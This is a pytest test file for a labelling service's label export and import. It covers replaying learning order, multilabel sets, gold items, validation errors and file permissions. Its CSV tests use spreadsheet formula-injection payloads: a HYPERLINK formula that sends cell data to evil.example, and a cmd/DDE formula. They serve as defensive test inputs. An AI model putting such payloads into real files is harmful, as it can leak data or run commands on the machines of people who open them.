"""Export: every label in learning order, with the model's prediction before it learned it."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import orjson
import pytest

from streamloop.errors import InvalidInput
from streamloop.store import NewEvent, NewLabel, Store
from streamloop.streams.export import (
    EXPORT_FIELDS,
    EXPORT_FILE_MODE,
    export_labels,
    open_export,
    write_csv,
    write_jsonl,
)
from streamloop.streams.importing import read_rows
from support import running, ticket

LABELS = ["billing", "bug", "other"]


async def test_an_export_replays_the_learning_the_service_did(settings):
    async with running(settings) as service:
        await service.create_project()
        events = [{"id": f"e{n}", "data": ticket(LABELS[n % 3], n)} for n in range(40)]
        await service.send_events("tickets", events)
        truth = [{"event_id": f"e{n}", "label": LABELS[n % 3]} for n in range(30)]
        response = await service.http.post("/api/projects/tickets/labels", json={"labels": truth})
        assert response.status_code == 200
        async with service.annotator("tickets", "alice") as alice:
            for n in range(5):
                item = (await alice.next_item())["item"]["id"]
                assert (await alice.label(item, "other", f"alice-{n}"))["type"] == "ack"
        metrics = await service.metrics("tickets")

    store = Store(settings.database_url)
    try:
        rows = list(export_labels(store, "tickets"))
    finally:
        store.close()
    assert [row["model_version"] for row in rows] == list(range(1, 36))
    assert [row["label_id"] for row in rows[:30]] == [f"event:e{n}" for n in range(30)]
    assert [row["source"] for row in rows] == ["production"] * 30 + ["annotator"] * 5
    assert {row["annotator"] for row in rows[30:]} == {"alice"}
    assert rows[0]["data"] == events[0]["data"] and rows[0]["predicted"] is None
    # The predictions replayed are the ones the service was scored on: same accuracy.
    hits = sum(row["predicted"] == row["label"] for row in rows)
    assert metrics["labels_total"] == 35
    assert hits / len(rows) == metrics["accuracy"]


async def test_the_cli_writes_jsonl_and_csv(tmp_path, settings):
    async with running(settings) as service:
        await service.create_project()
        await service.send_events("tickets", [{"id": "e1", "data": {"text": "refund, please"}}])
        truth = {"labels": [{"event_id": "e1", "label": "billing"}]}
        assert (
            await service.http.post("/api/projects/tickets/labels", json=truth)
        ).status_code == 200
    await asyncio.to_thread(check_cli, tmp_path, settings.database_url)


def check_cli(tmp_path, database_url: str) -> None:
    where = ["--database", database_url]
    command = [sys.executable, "-m", "streamloop", "export", "tickets", *where]
    lines = subprocess.run(command, capture_output=True, check=True).stdout.splitlines()
    assert [orjson.loads(line)["label"] for line in lines] == ["billing"]
    output = tmp_path / "labels.csv"
    subprocess.run([*command, "--format", "csv", "-o", str(output)], check=True)
    table = list(csv.DictReader(io.StringIO(output.read_text())))
    assert tuple(table[0]) == EXPORT_FIELDS
    assert orjson.loads(table[0]["data"]) == {"text": "refund, please"}
    assert (table[0]["event_id"], table[0]["model_version"]) == ("e1", "1")
    assert table[0]["labelled_at"].endswith("Z")
    unknown = subprocess.run([*command[:4], "nope", *where], capture_output=True, text=True)
    assert unknown.returncode == 1 and "no project named 'nope'" in unknown.stderr


async def test_importing_an_export_rebuilds_the_same_model_in_a_new_project(tmp_path, settings):
    async with running(settings) as service:
        await service.create_project()
        events = [{"id": f"e{n}", "data": ticket(LABELS[n % 3], n)} for n in range(60)]
        await service.send_events("tickets", events)
        truth = [{"event_id": f"e{n}", "label": LABELS[(n * n) % 3]} for n in range(45)]
        response = await service.http.post("/api/projects/tickets/labels", json={"labels": truth})
        assert response.status_code == 200
        store = service.core.store
        exported = tmp_path / "tickets.jsonl"
        with exported.open("wb") as out:
            await store.run(lambda: write_jsonl(export_labels(store, "tickets"), out))
        with exported.open("ab") as out:  # and unlabelled rows, to be routed to annotators
            for event in events[45:]:
                out.write(orjson.dumps(event) + b"\n")
        await service.create_project(name="copy")

        command = [sys.executable, "-m", "streamloop", "import", "copy", str(exported)]
        done = await asyncio.to_thread(
            subprocess.run,
            [*command, "--url", service.base, "--batch", "7"],
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stderr
        assert "60 rows of" in done.stderr and "45 labels learned" in done.stderr

        original, copy = await service.metrics("tickets"), await service.metrics("copy")
        assert copy["model_version"] == original["model_version"] == 45
        assert copy["accuracy"] == original["accuracy"]
        assert copy["queue_depth"] == 15
        for n in range(100, 110):  # the same labels in the same order: the same model
            probe = {"data": ticket(LABELS[n % 3], n)}
            a = await service.http.post("/api/projects/tickets/predict", json=probe)
            b = await service.http.post("/api/projects/copy/predict", json=probe)
            assert a.json()["probabilities"] == b.json()["probabilities"]

        # Again: nothing changes, everything is a duplicate.
        again = await asyncio.to_thread(
            subprocess.run, [*command, "--url", service.base], capture_output=True, text=True
        )
        assert again.returncode == 0, again.stderr
        assert (await service.metrics("copy"))["model_version"] == 45


async def test_gold_items_and_answers_are_exported_and_gold_items_imported(tmp_path, settings):
    async with running(settings) as service:
        await service.create_project(gold_share=1.0)
        await service.send_events("tickets", [{"id": "e0", "data": ticket("bug", 0)}])
        gold = [{"id": "g-1", "data": ticket("billing", 1), "label": "billing"}]
        assert (await service.http.post("/api/projects/tickets/gold", json={"items": gold})).json()
        async with service.annotator("tickets", "alice") as alice:
            item = (await alice.next_item())["item"]["id"]
            assert item == "g-1"
            assert (await alice.label(item, "bug", "a-1"))["type"] == "ack"
        store = service.core.store
        rows = await store.run(lambda: list(export_labels(store, "tickets")))
        assert [(r["source"], r["event_id"], r["label"], r["correct"]) for r in rows] == [
            ("gold", "g-1", "billing", None),
            ("gold_answer", "g-1", "bug", False),
        ]
        assert rows[1]["annotator"] == "alice" and rows[1]["label_id"] == "a-1"
        assert all(set(row) == set(EXPORT_FIELDS) for row in rows)

        exported = tmp_path / "tickets.jsonl"
        with exported.open("wb") as out:
            await store.run(lambda: write_jsonl(iter(rows), out))
        await service.create_project(name="copy")
        command = [sys.executable, "-m", "streamloop", "import", "copy", str(exported)]
        done = await asyncio.to_thread(
            subprocess.run, [*command, "--url", service.base], capture_output=True, text=True
        )
        assert done.returncode == 0, done.stderr
        # The gold item is gold in the copy (its answer is not imported): no event, no label.
        copied = await store.run(store.gold_items, store.project("copy").id)
        assert [(g.gold_id, g.label) for g in copied] == [("g-1", "billing")]
        metrics = await service.metrics("copy")
        assert metrics["events_total"] == 0 and metrics["labels_total"] == 0


TOPICS = ["billing", "bug", "ui"]
TOPIC_WORDS = {"billing": "charged refund", "bug": "crash error", "ui": "button layout"}


def topic(n: int) -> tuple[list[str], dict[str, str]]:
    """A ticket's true label set (a subset of the topics, by the bits of ``n``) and its data."""
    applies = [label for bit, label in enumerate(TOPICS) if n >> bit & 1]
    text = " ".join(TOPIC_WORDS[label] for label in applies) or "thanks all good"
    return applies, {"text": f"{text} number {n}"}


async def test_importing_a_multilabel_export_learns_the_same_label_sets(tmp_path, settings):
    spec = {"labels": TOPICS, "task": "multilabel", "model": "naive_bayes"}
    async with running(settings) as service:
        await service.create_project(name="topics", **spec)
        events = [{"id": f"e{n}", "data": topic(n)[1]} for n in range(50)]
        await service.send_events("topics", events)
        # Truth a little off the words (every fifth set shifted), so that accuracy is not 1.
        truth = [{"event_id": f"e{n}", "labels": topic(n + (n % 5 == 0))[0]} for n in range(40)]
        response = await service.http.post("/api/projects/topics/labels", json={"labels": truth})
        assert response.status_code == 200, response.text
        gold = [{"id": "g-1", "data": topic(3)[1], "labels": ["bug", "billing"]}]
        gold.append({"id": "g-2", "data": topic(0)[1], "labels": []})
        response = await service.http.post("/api/projects/topics/gold", json={"items": gold})
        assert response.status_code == 200, response.text
        store = service.core.store
        exported = tmp_path / "topics.jsonl"
        with exported.open("wb") as out:
            await store.run(lambda: write_jsonl(export_labels(store, "topics"), out))
        rows = [orjson.loads(line) for line in exported.read_bytes().splitlines()]
        assert {(row["label"], type(row["labels"])) for row in rows} == {(None, list)}
        assert [] in [row["labels"] for row in rows if row["source"] == "production"]
        with exported.open("ab") as out:  # and unlabelled rows, to be routed to annotators
            for event in events[40:]:
                out.write(orjson.dumps(event) + b"\n")
        await service.create_project(name="copy", **spec)

        command = [sys.executable, "-m", "streamloop", "import", "copy", str(exported)]
        done = await asyncio.to_thread(
            subprocess.run,
            [*command, "--url", service.base, "--batch", "7"],
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stderr
        assert "52 rows of" in done.stderr and "40 labels learned" in done.stderr

        original, copy = await service.metrics("topics"), await service.metrics("copy")
        assert copy["model_version"] == original["model_version"] == 40
        assert copy["labels_total"] == 40 and copy["queue_depth"] == 10
        assert 0 < original["accuracy"] < 1
        for figure in ("accuracy", "multilabel", "per_class"):
            assert copy[figure] == original[figure], figure
        for n in range(100, 108):  # the same label sets in the same order: the same model
            probe = {"data": topic(n)[1]}
            a = await service.http.post("/api/projects/topics/predict", json=probe)
            b = await service.http.post("/api/projects/copy/predict", json=probe)
            assert a.json()["probabilities"] == b.json()["probabilities"]
            assert a.json()["labels"] == b.json()["labels"]
        # The label sets themselves, and the gold items as gold with theirs.
        copied = await store.run(lambda: list(export_labels(store, "copy")))
        assert [(r["event_id"], r["labels"]) for r in copied] == [
            (r["event_id"], r["labels"]) for r in rows
        ]
        assert [r["event_id"] for r in copied if r["source"] == "gold"] == ["g-1", "g-2"]

        # Into a project of the other task: refused naming the line, and nothing is stored.
        await service.create_project(name="single", labels=TOPICS)
        command[4] = "single"
        refused = await asyncio.to_thread(
            subprocess.run, [*command, "--url", service.base], capture_output=True, text=True
        )
        assert refused.returncode == 1
        assert "line 1: this is a classify project" in refused.stderr
        assert (await service.metrics("single"))["events_total"] == 0


def test_import_rows_carry_label_sets_and_gold_label_sets():
    lines = [
        b'{"event_id": "a", "data": {}, "label": null, "labels": ["bug", "ui"]}',
        b'{"id": "b", "data": {}, "labels": []}',
        b'{"event_id": "g", "data": {}, "label": null, "labels": ["ui"], "source": "gold"}',
        b'{"id": "c", "data": {}, "label": "bug", "labels": null}',
        b'{"id": "d", "data": {}}',
    ]
    rows = list(read_rows(lines))
    assert [(r.event_id, r.answer, r.gold) for r in rows] == [
        ("a", ("bug", "ui"), False),
        ("b", (), False),  # labelled: no label of the set applies
        ("g", ("ui",), True),
        ("c", "bug", False),
        ("d", None, False),
    ]
    assert rows[0].label is None and rows[3].labels is None


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (b'{"id": "b", "data": {}, "labels": "bug"}', "labels must be a list of strings"),
        (b'{"id": "b", "data": {}, "labels": ["bug", 2]}', "labels must be a list of strings"),
        (b'{"id": "b", "data": {}, "labels": {"bug": 1}}', "labels must be a list of strings"),
        (b'{"id": "b", "data": {}, "label": "bug", "labels": ["bug"]}', "not both"),
        (b'{"id": "b", "data": {}, "label": "bug", "labels": []}', "not both"),
        (b'{"id": "g", "data": {}, "label": null, "labels": null, "source": "gold"}', "gold"),
    ],
)
def test_a_bad_label_set_is_refused_naming_its_line(line, message):
    rows = read_rows([b'{"id": "a", "data": {}, "labels": ["ui"]}', line])
    assert next(rows).answer == ("ui",)
    with pytest.raises(InvalidInput, match=rf"^line 2: .*{message}"):
        next(rows)


@pytest.mark.parametrize(
    "line",
    [b'{"id": 3, "data": {}}', b'{"id": "b"}', b"not json", b'{"id": "b", "data": {}, "label": 1}'],
)
def test_a_bad_import_row_is_refused_with_its_line_number(line):
    rows = read_rows([b'{"id": "a", "data": {"text": "x"}}', b"", line])
    assert next(rows).event_id == "a"
    with pytest.raises(InvalidInput, match=r"^line 3: "):
        next(rows)


# Spreadsheet-safe CSV.


def export_row(**cells: Any) -> dict[str, Any]:
    row: dict[str, Any] = dict.fromkeys(EXPORT_FIELDS)
    row |= {"data": {"text": "hello"}, "model_version": 1, "drawn_at_random": False}
    return row | cells


def read_csv(blob: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(blob.decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_as_formulas_get_a_quote(start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    out = io.BytesIO()
    row = export_row(
        label_id=formula, event_id=formula, label=formula, annotator=formula, predicted=formula
    )

    assert write_csv([row], out) == 1

    (cells,) = read_csv(out.getvalue())
    for name in ("label_id", "event_id", "label", "annotator", "predicted"):
        assert cells[name] == "'" + formula


def test_csv_writes_a_label_set_as_json_text() -> None:
    out = io.BytesIO()
    row = export_row(label=None, labels=["=bug", "ui"], predicted=[])
    write_csv([row], out)
    (cells,) = read_csv(out.getvalue())
    assert orjson.loads(cells["labels"]) == ["=bug", "ui"]
    assert orjson.loads(cells["predicted"]) == []


def test_csv_leaves_numbers_and_harmless_text_as_they_are() -> None:
    out = io.BytesIO()
    # A number written as a number is data, not a formula someone typed: model_version is the
    # only one an export has, never negative in practice, but a negative one stays a number.
    row = export_row(label="billing", event_id="e'1", model_version=-3, drawn_at_random=True)
    row["data"] = {"text": "=1+1", "amount": -2}

    write_csv([row], out)

    (cells,) = read_csv(out.getvalue())
    assert (cells["label"], cells["event_id"]) == ("billing", "e'1")
    assert (cells["model_version"], cells["drawn_at_random"]) == ("-3", "True")
    # The data cell is JSON text, an object: it starts with "{", and is exact.
    assert orjson.loads(cells["data"]) == {"text": "=1+1", "amount": -2}


def test_jsonl_export_keeps_formula_like_text_exact() -> None:
    out = io.BytesIO()
    row = export_row(label="=cmd|' /C calc'!A0", event_id="-1")

    write_jsonl([row], out)

    assert orjson.loads(out.getvalue()) == row


# Export files and rows the encoder cannot write.


def nested(depth: int) -> Any:
    value: Any = "bottom"
    for _ in range(depth):
        value = {"deeper": value}
    return value


def deepest_storable() -> dict[str, Any]:
    """Event data as deep as the store could keep it before event data had a depth limit:
    the deepest orjson writes (the store's JSON encoder), though not inside an export row."""
    depth = 1
    while True:
        try:
            orjson.dumps({"text": "deep", "nested": nested(depth + 1)})
        except orjson.JSONEncodeError:
            return {"text": "deep", "nested": nested(depth)}
        depth += 1


@pytest.mark.parametrize("write", [write_jsonl, write_csv])
def test_an_event_nested_too_deep_for_orjson_is_exported_with_the_rest(
    tmp_path: Path, write: Any
) -> None:
    deep = deepest_storable()
    with pytest.raises(orjson.JSONEncodeError):
        orjson.dumps({"data": deep})  # what crashed the export
    store = Store(f"sqlite:///{tmp_path / 'streamloop.db'}")
    try:
        project = store.create_project(
            name="tickets",
            labels=LABELS,
            input="text",
            model="logistic_regression",
            strategy="margin",
            exploration=0.05,
            lease_seconds=120.0,
        )
        data = [{"text": "refund please"}, deep, {"text": "it crashed"}]
        store.insert_events(
            project.id, [NewEvent(f"e{n}", d, "queued", 1.0) for n, d in enumerate(data)]
        )
        labels = [NewLabel(f"l{n}", LABELS[n], "production", event_id=f"e{n}") for n in range(3)]
        store.commit_labels(project.id, labels, 0)
        out = io.BytesIO()

        assert write(export_labels(store, "tickets"), out) == 3
    finally:
        store.close()

    if write is write_jsonl:
        rows = [json.loads(line) for line in out.getvalue().splitlines()]
        assert [row["data"] for row in rows] == data
    else:
        cells = read_csv(out.getvalue())
        assert [json.loads(row["data"]) for row in cells] == data
    assert "deep" in out.getvalue().decode()


def test_a_row_no_encoder_can_write_is_left_out_and_named(
    caplog: pytest.LogCaptureFixture,
) -> None:
    rows = [
        export_row(label_id="l1"),
        export_row(label_id="l2", event_id="e2", data={"text": "x", "nested": nested(5_000)}),
        export_row(label_id="l3"),
    ]
    out = io.BytesIO()

    with caplog.at_level(logging.ERROR, logger="streamloop.streams.export"):
        assert write_jsonl(rows, out) == 2

    assert [orjson.loads(line)["label_id"] for line in out.getvalue().splitlines()] == ["l1", "l3"]
    assert "label 'l2' of event 'e2' left out of the export" in caplog.text


def test_a_new_export_file_is_private_to_its_owner(tmp_path: Path) -> None:
    previous = os.umask(0o022)
    try:
        with open_export(tmp_path / "labels.jsonl") as out:
            out.write(b"{}\n")
    finally:
        os.umask(previous)

    assert stat.S_IMODE((tmp_path / "labels.jsonl").stat().st_mode) == EXPORT_FILE_MODE == 0o600


def test_an_existing_export_file_is_overwritten_and_keeps_its_mode(tmp_path: Path) -> None:
    existing = tmp_path / "shared.jsonl"
    existing.write_bytes(b"an older, longer export\n")
    existing.chmod(0o640)

    with open_export(existing) as out:
        out.write(b"{}\n")

    assert existing.read_bytes() == b"{}\n"
    assert stat.S_IMODE(existing.stat().st_mode) == 0o640
